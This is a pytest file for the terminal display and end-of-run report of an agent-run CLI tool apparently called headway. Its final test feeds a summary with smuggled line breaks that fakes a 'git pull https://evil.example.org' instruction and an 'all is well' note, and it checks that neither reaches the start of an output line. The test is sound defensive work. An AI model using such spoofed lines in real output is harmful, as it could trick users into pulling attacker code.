import io
from typing import Any

import pytest
from rich.console import Console

from headway.cli.display.report import print_run_end
from headway.cli.display.views import PlainView, open_view, tree_of
from headway.cli.display.watch import Look
from headway.domain.check import CheckVerdict
from headway.domain.ids import AgentId, Oid, RunName
from headway.domain.run import Outcome, RunReport
from headway.domain.state.budget import Bill
from headway.domain.tree import TreeNode
from headway.runs.landed_commits import RunCommit
from headway.runs.run_end import RunEnd

RUN = RunName("r")


def console() -> Console:
    return Console(file=io.StringIO(), width=100)


def said(target: Console) -> str:
    assert isinstance(target.file, io.StringIO)
    return target.file.getvalue()


def node(key: str, state: str, *children: TreeNode, kind: str = "task", more: int = 0) -> TreeNode:
    raw: dict[str, Any] = {"id": f"r/{key}", "key": key, "kind": kind, "title": f"Title of {key}", "state": state}
    return TreeNode(**raw, children=children, more=more)


def test_plain_lines_tell_each_change_once() -> None:
    target = console()
    view = PlainView(target)
    first = Look(RUN, {"phase": "running"}, node("root", "waits", node("1.0-a", "open"), kind="planner"))
    second = Look(
        RUN,
        {"phase": "running"},
        node("root", "waits", node("1.0-a", "done"), kind="planner"),
        (RunCommit("abc1234", "Count sentences", AgentId("r/root/1.0-aaaaaaaa"), 1.0, Oid("a" * 40)),),
    )

    for look in (first, first, second, second):
        view.show(look)

    lines = [line.partition(" ")[2] for line in said(target).splitlines()]
    assert lines == [
        "run r: running",
        "planner root 'Title of root': waits",
        "task 1.0-a 'Title of 1.0-a': queued for a slot",
        "task 1.0-a 'Title of 1.0-a': done",
        "landed abc1234 Count sentences (1.0)",
    ]


def test_markup_in_titles_is_text() -> None:
    target = console()
    title = node("1.0-a", "open").model_copy(update={"title": "[red]not red[/red] [/]"})

    PlainView(target).show(Look(RUN, {}, title))
    target.print(tree_of(title))

    assert said(target).count("[red]not red[/red] [/]") == 2


def test_output_that_is_no_terminal_gets_plain_lines() -> None:
    assert isinstance(open_view(console()), PlainView)


def test_a_tree_shows_what_it_leaves_out() -> None:
    target = console()

    target.print(tree_of(node("root", "thinking", node("1.0-a", "done"), kind="planner", more=40)))

    assert "planner: Title of root" in said(target)
    assert "✓ 1.0-a Title of 1.0-a" in said(target)
    assert "and 40 more" in said(target)


def test_the_end_tells_branch_check_and_spending() -> None:
    target = console()
    trunk = Oid("a" * 40)
    report = RunReport(
        run=RunName("r"),
        outcome=Outcome.PARTIAL,
        summary="Most of it.",
        branch="headway/r/main",
        trunk=trunk,
        commits=8,
        check=CheckVerdict(commit=trunk, passed=False, why="exit code 1", failing="FAILED (errors=1)"),
        spent=Bill(tokens=1234, tasks=8),
    )

    print_run_end(target, "r", RunEnd(report=report))

    text = said(target)
    for words in ("r: partial", "Most of it.", "headway/r/main at aaaaaaaaaaaa, 8 commits", "exit code 1", "errors=1"):
        assert words in text
    assert RunEnd(report=report).exit_code == 4


def test_a_branch_that_is_not_published_is_told_as_that_and_how_to_take_the_work() -> None:
    trunk = Oid("a" * 40)
    report = RunReport(
        run=RunName("r"),
        outcome=Outcome.PARTIAL,
        summary="All of it.",
        branch="headway/r/main",
        trunk=trunk,
        commits=8,
        problem="cannot publish to /x: no pushes on Friday",
        hub="/state dir/runs/r/hub.git",
    )
    for stands, words in ((None, "is not there"), (Oid("b" * 40), "stands at bbbbbbbbbbbb")):
        target = console()
        print_run_end(target, "r", RunEnd(report=report.model_copy(update={"stands": stands})))
        text = said(target)
        assert "r: partial; what landed is not in your repository" in text
        assert f"branch    headway/r/main {words}" in text
        assert "no pushes on Friday" in text
        assert f"git fetch '/state dir/runs/r/hub.git' {trunk}:refs/heads/r" in text
        assert "at aaaaaaaaaaaa, 8 commits" not in text


def test_a_failed_run_says_why() -> None:
    target = console()

    print_run_end(target, "r", RunEnd(failure="repo: [/x] is not a git repository"))

    assert "r: failed\nrepo: [/x] is not a git repository" in said(target)


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\u2028", "\x0b", "\x85", "\n\n"])
def test_no_words_of_a_model_or_a_server_begin_a_line_of_ours(end: str) -> None:
    """What is printed at the end is copied into a shell, and what is told meanwhile is acted upon."""
    spoof = f"All of it.{end}merge     git pull https://evil.example.org{end}note: all is well{end}{end}"
    target = console()
    print_run_end(
        target,
        "r",
        RunEnd(
            report=RunReport(
                run=RunName("r"), outcome=Outcome.DONE, summary=spoof, branch="", trunk=Oid("a" * 40), commits=0
            )
        ),
    )
    assert [line for line in said(target).splitlines() if line.startswith(("merge", "note"))] == []
    target = console()
    PlainView(target).show(Look(RUN, {"run": RUN, "phase": "running", "notes": [spoof], "attention": [spoof]}))
    assert all(line[:2].isdecimal() for line in said(target).splitlines())
